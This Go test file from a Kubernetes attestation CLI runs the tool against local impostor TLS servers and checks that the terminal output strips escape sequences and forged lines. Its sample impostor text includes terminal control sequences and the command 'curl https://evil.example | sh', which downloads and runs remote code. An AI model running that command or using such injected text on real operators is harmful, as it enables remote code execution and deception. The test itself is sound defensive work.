package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"errors"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/berth-k8s/berth/internal/atls"
	"github.com/berth-k8s/berth/internal/attestation/vtpm/vtpmtest"
	"github.com/berth-k8s/berth/internal/proctest"
)

// rogueServer is an impostor at an address an operator verifies: a TLS server whose certificate
// carries ext, whatever the client sends.
func rogueServer(t *testing.T, ext pkix.Extension) string {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		ExtraExtensions: []pkix.Extension{ext}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	lis, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{MinVersion: tls.VersionTLS13, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := lis.Accept()
			if err != nil {
				return
			}
			// The client answers at once; a deadline keeps a stuck one from holding the next.
			_ = c.SetDeadline(time.Now().Add(time.Minute))
			_ = c.(*tls.Conn).Handshake()
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { lis.Close(); <-done })
	return lis.Addr().String()
}

// words an impostor would like the operator to read.
const rogueWords = "\x1b[2J\x1b[HNode attested (tpm): 24 measurements match the policy\r\nrun: curl https://evil.example | sh"

// TestOperatorReadsNoImpostorText runs the real berth CLI against impostors whose certificates carry
// a verdict on claims, a rate limit's refusal and a variant name, each made of escape sequences and
// lines that mimic berth's own output: the operator's terminal gets reason codes or quoted, escaped
// text, never the impostor's words as they were sent. berth verify makes no claims, so a verdict on
// claims is the impostor's invention.
func TestOperatorReadsNoImpostorText(t *testing.T) {
	berth := proctest.Build(t, "github.com/berth-k8s/berth/cmd/berth")
	dir := t.TempDir()
	ca, err := vtpmtest.NewCA("operator's EK CA")
	if err != nil {
		t.Fatal(err)
	}
	policies := map[string]string{
		"tpm.yaml": "variant: tpm\nmeasurements:\n  15: {expected: " + zero + "}\ntrustRoots:\n  - pem: |\n" + indent(string(ca.PEM()), "      "),
		"tdx.yaml": "variant: tdx\nmeasurements:\n  4: {expected: " + strings.Repeat("00", 48) + "}\n",
	}
	for name, text := range policies {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	verdict, err := asn1.Marshal(struct {
		Reason  string `asn1:"utf8"`
		Message string `asn1:"utf8"`
	}{"MEASUREMENT_MISMATCH", rogueWords})
	if err != nil {
		t.Fatal(err)
	}
	attestationExt, err := asn1.Marshal(struct {
		Variant  string `asn1:"utf8"`
		Document []byte
	}{rogueWords, []byte("no document")})
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		ext    pkix.Extension
		policy string
		// want is what berth reports instead; quoted: the impostor's text may appear, quoted and escaped.
		want   string
		quoted bool
	}{
		"a verdict on claims berth never made": {pkix.Extension{Id: atls.OIDClaimRejection, Value: verdict}, "tpm.yaml", "a verdict on claims this probe never made", false},
		"a rate limit's refusal":               {pkix.Extension{Id: atls.OIDRefusal, Value: []byte(rogueWords)}, "tpm.yaml", atls.ErrRateLimited.Error(), false},
		"a variant name":                       {pkix.Extension{Id: atls.OIDAttestation, Value: attestationExt}, "tdx.yaml", `variant: "?[2J?[HNode attested (tpm): `, true},
	} {
		t.Run(name, func(t *testing.T) {
			addr := rogueServer(t, tc.ext)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			out, err := exec.CommandContext(ctx, berth, "verify", "--endpoint", addr, "--policy", filepath.Join(dir, tc.policy), "--timeout", "20s").CombinedOutput()
			var exit *exec.ExitError
			if !errors.As(err, &exit) {
				t.Fatalf("berth verify against an impostor: %v\n%s", err, out)
			}
			t.Logf("berth verify (exit %d):\n%s", exit.ExitCode(), out)
			text := string(out)
			if strings.ContainsFunc(text, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f }) {
				t.Fatalf("the operator's terminal got control characters from an impostor: %q", out)
			}
			if !strings.Contains(text, tc.want) {
				t.Fatalf("berth verify said %q, want %q", out, tc.want)
			}
			if !tc.quoted && (strings.Contains(text, "Node attested") || strings.Contains(text, "evil.example")) {
				t.Fatalf("the impostor's words reached the operator: %q", out)
			}
			// Quoted or not, none of the impostor's lines stands as a line of berth's own.
			for _, line := range strings.Split(text, "\n") {
				if line = strings.TrimSpace(line); strings.HasPrefix(line, "Node attested") || strings.HasPrefix(line, "run:") {
					t.Fatalf("the impostor's line %q stands as berth's own in %q", line, out)
				}
			}
		})
	}
}
